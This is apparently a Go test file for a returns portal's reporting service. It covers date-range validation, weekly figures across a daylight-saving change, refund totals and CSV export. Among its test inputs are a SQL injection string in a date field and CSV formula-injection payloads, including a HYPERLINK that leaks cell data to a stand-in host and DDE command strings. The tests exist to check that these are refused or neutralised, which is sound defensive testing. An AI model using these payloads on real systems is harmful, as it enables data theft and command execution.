package returns_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/returnsportal/returns"
)

// fakeReportStore answers with Figures and Records, and records the queries.
type fakeReportStore struct {
	Figures *returns.ReportFigures
	Records []returns.ReturnRecord
	Queries []returns.ReportQuery
}

func (f *fakeReportStore) ReportFigures(_ context.Context, q returns.ReportQuery) (*returns.ReportFigures, error) {
	f.Queries = append(f.Queries, q)
	if f.Figures == nil {
		return &returns.ReportFigures{Weeks: make([]returns.WeekFigures, len(q.Weeks))}, nil
	}
	return f.Figures, nil
}

func (f *fakeReportStore) EachReturnRecord(_ context.Context, q returns.ReportQuery, fn func(*returns.ReturnRecord) error) error {
	f.Queries = append(f.Queries, q)
	for i := range f.Records {
		if err := fn(&f.Records[i]); err != nil {
			return err
		}
	}
	return nil
}

// reportNow is a Thursday afternoon in Riga.
var reportNow = time.Date(2026, 3, 26, 15, 30, 0, 0, time.UTC)

func TestReportPeriod(t *testing.T) {
	riga, err := time.LoadLocation("Europe/Riga")
	if err != nil {
		t.Skip("no time zone data:", err)
	}
	s := returns.NewReportService(&fakeReportStore{}, &fixedZone{riga}, func() time.Time { return reportNow })
	day := func(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 0, 0, 0, 0, riga) }
	tests := []struct {
		name, from, to string
		want           returns.ReportPeriod
		fields         []string // the fields with a message, when refused
	}{
		// Monday 5 January to Thursday 26 March: this week and eleven before.
		{name: "default", want: returns.ReportPeriod{From: day(2026, 1, 5), To: day(2026, 3, 26)}},
		{name: "both", from: "2026-02-01", to: "2026-02-28", want: returns.ReportPeriod{From: day(2026, 2, 1), To: day(2026, 2, 28)}},
		{name: "one day", from: "2026-02-01", to: "2026-02-01", want: returns.ReportPeriod{From: day(2026, 2, 1), To: day(2026, 2, 1)}},
		{name: "spaces", from: " 2026-02-01 ", to: "2026-02-28\t", want: returns.ReportPeriod{From: day(2026, 2, 1), To: day(2026, 2, 28)}},
		{name: "from only ends today", from: "2026-03-01", want: returns.ReportPeriod{From: day(2026, 3, 1), To: day(2026, 3, 26)}},
		{name: "from in the future", from: "2026-04-01", want: returns.ReportPeriod{From: day(2026, 4, 1), To: day(2026, 4, 1)}},
		{name: "to only", to: "2025-12-31", want: returns.ReportPeriod{From: day(2025, 10, 13), To: day(2025, 12, 31)}},
		{name: "two years", from: "2024-03-27", to: "2026-03-27", want: returns.ReportPeriod{From: day(2024, 3, 27), To: day(2026, 3, 27)}},
		{name: "longer than two years", from: "2024-03-26", to: "2026-03-27", fields: []string{returns.FieldReportFrom}},
		{name: "end before start", from: "2026-03-02", to: "2026-03-01", fields: []string{returns.FieldReportTo}},
		{name: "not a date", from: "yesterday", to: "2026-02-30", fields: []string{returns.FieldReportFrom, returns.FieldReportTo}},
		{name: "short form", from: "2026-3-1", fields: []string{returns.FieldReportFrom}},
		{name: "long ago", from: "0001-01-01", fields: []string{returns.FieldReportFrom}},
		{name: "injection", from: "2026-03-01'; DROP TABLE returns", fields: []string{returns.FieldReportFrom}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := s.ReportPeriod(tt.from, tt.to)
			if tt.fields != nil {
				if returns.ErrorCode(err) != returns.EINVALID {
					t.Fatalf("period %v, err %v: want EINVALID", p, err)
				}
				var got []string
				for f := range returns.ErrorFields(err) {
					got = append(got, f)
				}
				if len(got) != len(tt.fields) {
					t.Fatalf("messages for %v, want for %v", returns.ErrorFields(err), tt.fields)
				}
				for _, f := range tt.fields {
					if _, ok := returns.ErrorFields(err)[f]; !ok {
						t.Errorf("no message for %s: %v", f, returns.ErrorFields(err))
					}
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if !p.From.Equal(tt.want.From) || !p.To.Equal(tt.want.To) {
				t.Errorf("period %s to %s, want %s to %s", p.From, p.To, tt.want.From, tt.want.To)
			}
		})
	}
}

// TestReportWeeks: the weeks start on Mondays at midnight in the store's
// zone, also across a change of the clocks, and are cut to the period.
func TestReportWeeks(t *testing.T) {
	riga, err := time.LoadLocation("Europe/Riga")
	if err != nil {
		t.Skip("no time zone data:", err)
	}
	store := &fakeReportStore{}
	s := returns.NewReportService(store, &fixedZone{riga}, func() time.Time { return reportNow })
	// Wednesday 25 March to Tuesday 7 April; the clocks go forward on 29 March.
	p, err := s.ReportPeriod("2026-03-25", "2026-04-07")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := s.Report(context.Background(), p)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, w := range rep.Weeks {
		got = append(got, w.Start.Format("Mon 2006-01-02 15:04 MST")+" – "+w.LastDay().Format("Mon 01-02"))
	}
	want := []string{
		"Wed 2026-03-25 00:00 EET – Sun 03-29",
		"Mon 2026-03-30 00:00 EEST – Sun 04-05",
		"Mon 2026-04-06 00:00 EEST – Tue 04-07",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("weeks %q, want %q", got, want)
	}
	q := store.Queries[0]
	if r := q.Range(); !r.Start.Equal(p.Start()) || !r.End.Equal(time.Date(2026, 4, 8, 0, 0, 0, 0, riga)) {
		t.Errorf("query range %v", r)
	}
}

func TestOutcomeOf(t *testing.T) {
	tests := []struct {
		status             returns.Status
		asked              returns.Resolution
		refunded, replaced bool
		want               returns.Outcome
	}{
		{returns.StatusRequested, returns.ResolutionRefund, false, false, returns.OutcomeOpen},
		{returns.StatusApproved, returns.ResolutionReplacement, false, false, returns.OutcomeOpen},
		{returns.StatusItemReceived, returns.ResolutionRefund, false, false, returns.OutcomeOpen},
		{returns.StatusDeclined, returns.ResolutionRefund, false, false, returns.OutcomeDeclined},
		{returns.StatusCancelled, returns.ResolutionReplacement, false, false, returns.OutcomeCancelled},
		{returns.StatusRefunded, returns.ResolutionReplacement, true, false, returns.OutcomeRefund},
		{returns.StatusReplacementShipped, returns.ResolutionRefund, false, true, returns.OutcomeReplacement},
		{returns.StatusClosed, returns.ResolutionReplacement, true, false, returns.OutcomeRefund},
		{returns.StatusClosed, returns.ResolutionRefund, false, true, returns.OutcomeReplacement},
		{returns.StatusClosed, returns.ResolutionReplacement, false, false, returns.OutcomeReplacement},
		{returns.StatusClosed, returns.ResolutionRefund, false, false, returns.OutcomeRefund},
	}
	for _, tt := range tests {
		if got := returns.OutcomeOf(tt.status, tt.asked, tt.refunded, tt.replaced); got != tt.want {
			t.Errorf("OutcomeOf(%s, %s, refunded %v, replaced %v) = %s, want %s", tt.status, tt.asked, tt.refunded, tt.replaced, got, tt.want)
		}
	}
}

// TestReport adds up the store's figures: totals, every reason in the form's
// order, outcomes by the domain's rule, a column per refunded currency.
func TestReport(t *testing.T) {
	eur := func(m int64) returns.Money { return returns.Money{Minor: m, Currency: "EUR"} }
	usd := func(m int64) returns.Money { return returns.Money{Minor: m, Currency: "USD"} }
	store := &fakeReportStore{Figures: &returns.ReportFigures{
		Weeks: []returns.WeekFigures{
			{Returns: 3, Resolved: 2, Median: time.Hour, Refunded: []returns.Money{eur(2900)}, Refunds: 1},
			{Returns: 4, Refunded: []returns.Money{eur(100), usd(6400)}, Refunds: 2},
		},
		Resolved: 2, Median: time.Hour,
		Reasons: []returns.ReasonCount{{Reason: "legacy", Returns: 1}, {Reason: returns.ReasonWrongItem, Returns: 2}, {Reason: returns.ReasonDamaged, Returns: 4}},
		Outcomes: []returns.OutcomeFacts{
			{Status: returns.StatusClosed, Asked: returns.ResolutionReplacement, Returns: 2},
			{Status: returns.StatusReplacementShipped, Asked: returns.ResolutionReplacement, Replaced: true, Returns: 1},
			{Status: returns.StatusClosed, Asked: returns.ResolutionRefund, Refunded: true, Returns: 3},
			{Status: returns.StatusApproved, Asked: returns.ResolutionRefund, Returns: 1},
		},
		Kinds: []returns.KindCount{{Kind: returns.KindDamaged, Returns: 4}, {Kind: returns.KindDissatisfied, Returns: 2}, {Kind: returns.KindWithdrawal, Returns: 1}},
	}}
	s := returns.NewReportService(store, nil, func() time.Time { return reportNow })
	p, err := s.ReportPeriod("2026-03-09", "2026-03-22")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := s.Report(context.Background(), p)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Returns != 7 || rep.Refunds != 3 || rep.Resolved != 2 || rep.Median != time.Hour {
		t.Errorf("totals: %d returns, %d refunds, %d resolved in %s", rep.Returns, rep.Refunds, rep.Resolved, rep.Median)
	}
	if !reflect.DeepEqual(rep.Currencies, []string{"EUR", "USD"}) || !reflect.DeepEqual(rep.Refunded, []returns.Money{eur(3000), usd(6400)}) {
		t.Errorf("refunded %v in %v", rep.Refunded, rep.Currencies)
	}
	if got := rep.Weeks[0].Refunded; !reflect.DeepEqual(got, []returns.Money{eur(2900), usd(0)}) {
		t.Errorf("first week refunded %v", got)
	}
	wantReasons := []returns.ReasonCount{
		{Reason: returns.ReasonDamaged, Returns: 4}, {Reason: returns.ReasonDoesntFit}, {Reason: returns.ReasonNotAsDescribed},
		{Reason: returns.ReasonWrongItem, Returns: 2}, {Reason: returns.ReasonNoLongerNeeded}, {Reason: returns.ReasonOther},
		{Reason: "legacy", Returns: 1},
	}
	if !reflect.DeepEqual(rep.Reasons, wantReasons) {
		t.Errorf("reasons %v", rep.Reasons)
	}
	wantOutcomes := []returns.OutcomeCount{
		{Outcome: returns.OutcomeReplacement, Returns: 3}, {Outcome: returns.OutcomeRefund, Returns: 3},
		{Outcome: returns.OutcomeDeclined}, {Outcome: returns.OutcomeCancelled}, {Outcome: returns.OutcomeOpen, Returns: 1},
	}
	if !reflect.DeepEqual(rep.Outcomes, wantOutcomes) {
		t.Errorf("outcomes %v", rep.Outcomes)
	}
	wantBases := []returns.BasisCount{{Basis: returns.BasisWithdrawal, Returns: 1}, {Basis: returns.BasisGuarantee, Returns: 4}, {Basis: returns.BasisCommercial, Returns: 2}}
	if !reflect.DeepEqual(rep.Bases, wantBases) {
		t.Errorf("legal bases %v", rep.Bases)
	}
}

// exportCSV exports records through a ReportService and parses the file.
func exportCSV(t *testing.T, records []returns.ReturnRecord) (string, [][]string) {
	t.Helper()
	s := returns.NewReportService(&fakeReportStore{Records: records}, nil, func() time.Time { return reportNow })
	p, err := s.ReportPeriod("2026-03-01", "2026-03-31")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := s.ExportCSV(context.Background(), p, &buf); err != nil {
		t.Fatal(err)
	}
	raw := buf.String()
	if !strings.HasPrefix(raw, "\ufeff") {
		t.Errorf("the file does not start with a UTF-8 byte order mark: %q", raw[:min(len(raw), 10)])
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(raw, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, raw)
	}
	return raw, rows
}

func TestExportCSV(t *testing.T) {
	at := time.Date(2026, 3, 3, 9, 0, 0, 0, time.UTC)
	_, rows := exportCSV(t, []returns.ReturnRecord{{
		Code: "R-7KQ9X2MD", OrderName: "#1001", Status: returns.StatusClosed, Kind: returns.KindDissatisfied,
		Reason: returns.ReasonDoesntFit, Resolution: returns.ResolutionRefund, Currency: "EUR",
		Items: []returns.Item{
			{Title: "Ceramic mug", Quantity: 2, UnitPrice: returns.Money{Minor: 1450, Currency: "EUR"}},
			{Title: "Lina dvielis, zaļš", Quantity: 1, UnitPrice: returns.Money{Minor: 2900, Currency: "EUR"}},
		},
		Refunded: returns.Money{Minor: 5800, Currency: "EUR"}, RequestedAt: at, ResolvedAt: at.Add(48 * time.Hour), UpdatedAt: at.Add(72 * time.Hour),
	}, {
		Code: "R-AAAAAAAA", OrderName: "#1002", Status: returns.StatusRequested, Kind: returns.KindDamaged,
		Reason: returns.ReasonDamaged, Resolution: returns.ResolutionReplacement, Currency: "JPY",
		Items:       []returns.Item{{Title: "Tea bowl", Quantity: 1, UnitPrice: returns.Money{Minor: 1200, Currency: "JPY"}}},
		RequestedAt: at, UpdatedAt: at,
	}})
	want := [][]string{
		returns.ReturnsCSVColumns,
		{"R-7KQ9X2MD", "#1001", "2026-03-03 09:00:00", "2026-03-05 09:00:00", "2026-03-06 09:00:00", "closed", "dissatisfied", "doesnt_fit",
			"refund", "refund", "2 × Ceramic mug; 1 × Lina dvielis, zaļš", "3", "58.00", "58.00", "EUR", "commercial"},
		{"R-AAAAAAAA", "#1002", "2026-03-03 09:00:00", "", "2026-03-03 09:00:00", "requested", "damaged", "damaged",
			"replacement", "open", "1 × Tea bowl", "1", "1200", "0", "JPY", "guarantee"},
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("rows:\n got %q\nwant %q", rows, want)
	}
}

// TestExportCSV_NeutralisesFormulas: a product title, an order name or any
// other cell that a spreadsheet would run as a formula reaches the file with
// a single quote in front (OWASP's CSV injection rule); other cells as they
// are.
func TestExportCSV_NeutralisesFormulas(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		"+1+cmd|' /C calc'!A0":                           "'+1+cmd|' /C calc'!A0",
		"-2+3":                                           "'-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0":                    "'@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1":                                         "'\t=1+1",
		"\r=1+1":                                         "'\r=1+1",
		"Ceramic mug = fine":                             "Ceramic mug = fine",
		"'quoted":                                        "'quoted",
	}
	for in, want := range cells {
		t.Run(strings.ToValidUTF8(in, "?"), func(t *testing.T) {
			at := time.Date(2026, 3, 3, 9, 0, 0, 0, time.UTC)
			_, rows := exportCSV(t, []returns.ReturnRecord{{
				Code: in, OrderName: in, Status: returns.StatusRequested, Kind: returns.Kind(in), Reason: returns.Reason(in),
				Resolution: returns.ResolutionRefund, Currency: "EUR", RequestedAt: at, UpdatedAt: at,
			}})
			row := rows[1]
			for i, col := range []int{0, 1, 6, 7} {
				// encoding/csv reads a lone CR inside a quoted field as
				// written; the other columns are the same text.
				if row[col] != want {
					t.Errorf("column %d (%d): %q, want %q", col, i, row[col], want)
				}
			}
		})
	}
	if got := returns.NeutralizeCell(""); got != "" {
		t.Errorf("an empty cell became %q", got)
	}
}

// TestExportCSV_StoreError: a failure of the store comes back, wrapped.
func TestExportCSV_StoreError(t *testing.T) {
	boom := errors.New("disk I/O error")
	s := returns.NewReportService(failingRecords{boom}, nil, time.Now)
	p, _ := s.ReportPeriod("", "")
	if err := s.ExportCSV(context.Background(), p, &bytes.Buffer{}); !errors.Is(err, boom) {
		t.Errorf("err %v, want the store's", err)
	}
}

type failingRecords struct{ err error }

func (f failingRecords) ReportFigures(context.Context, returns.ReportQuery) (*returns.ReportFigures, error) {
	return nil, f.err
}

func (f failingRecords) EachReturnRecord(context.Context, returns.ReportQuery, func(*returns.ReturnRecord) error) error {
	return f.err
}

// fixedZone is a store whose time zone is loc.
type fixedZone struct{ loc *time.Location }

func (z *fixedZone) Location(context.Context) *time.Location { return z.loc }

// TestReportsFollowTheStoresZone: the reports' days are the store's, read at
// each use: a zone changed in settings applies to the next report.
func TestReportsFollowTheStoresZone(t *testing.T) {
	riga, err := time.LoadLocation("Europe/Riga")
	if err != nil {
		t.Skip("no zone data:", err)
	}
	z := &fixedZone{}
	s := returns.NewReportService(&fakeReportStore{}, z, func() time.Time { return reportNow })
	if s.Location() != time.UTC {
		t.Fatalf("zone %v before the store's is known, want UTC", s.Location())
	}
	z.loc = riga
	p, err := s.ReportPeriod("2026-03-02", "2026-03-08")
	if err != nil {
		t.Fatal(err)
	}
	if s.Location() != riga || p.From.Location() != riga || !p.From.Equal(time.Date(2026, 3, 2, 0, 0, 0, 0, riga)) {
		t.Fatalf("period from %v (zone %v), want midnight in Riga", p.From, s.Location())
	}
}
